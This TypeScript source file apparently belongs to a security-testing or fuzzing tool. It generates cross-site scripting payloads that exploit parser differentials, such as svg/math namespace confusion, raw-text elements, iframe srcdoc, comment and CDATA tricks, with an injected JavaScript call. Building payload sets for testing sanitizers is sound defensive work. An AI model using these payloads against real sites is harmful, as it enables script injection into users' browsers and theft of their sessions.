import { combineAll, type Shape } from './shape'

/** Wrappers that put an element into a namespace or context with special parsing rules. */
const frames: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<svg>${inner}`,
  (inner) => `<math><mtext>${inner}`,
  (inner) => `<math><mtext><table><mglyph>${inner}`,
  (inner) => `<svg><desc>${inner}`,
  (inner) => `<svg></p>${inner}`,
  (inner) => `<table><td>${inner}`,
]

/** Elements whose content is raw text in HTML but markup in other contexts, or vice versa. */
const rawElements = ['style', 'title', 'textarea', 'noscript', 'xmp', 'noembed', 'iframe']

/** Markup that a second parser interprets differently from the first. */
export const nestedShapes: readonly Shape[] = [
  ...combineAll(
    frames,
    rawElements,
    (frame, element): Shape =>
      (call) =>
        frame(`<${element}><p title="</${element}><img src=x onerror=${call}>">`),
  ),
  (call) => `<svg><script>${call}</script>`,
  (call) => `<svg><script xlink:href=data:,${call} />`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}>`,
  (call) => `<svg><set attributeName=onmouseover to=${call}>`,
  (call) => `<math><annotation-xml encoding=text/html><img src=x onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe srcdoc='<img src=x onerror=${call}>'>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}>`,
  (call) => `<select><option><style></select><img src=x onerror=${call}>`,
  (call) => `<form><input name=innerHTML><input name=attributes onfocus=${call} autofocus>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
  (call) => `<?x ><svg onload=${call}>?>`,
  (call) => `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${call}>">]>&y;`,
]
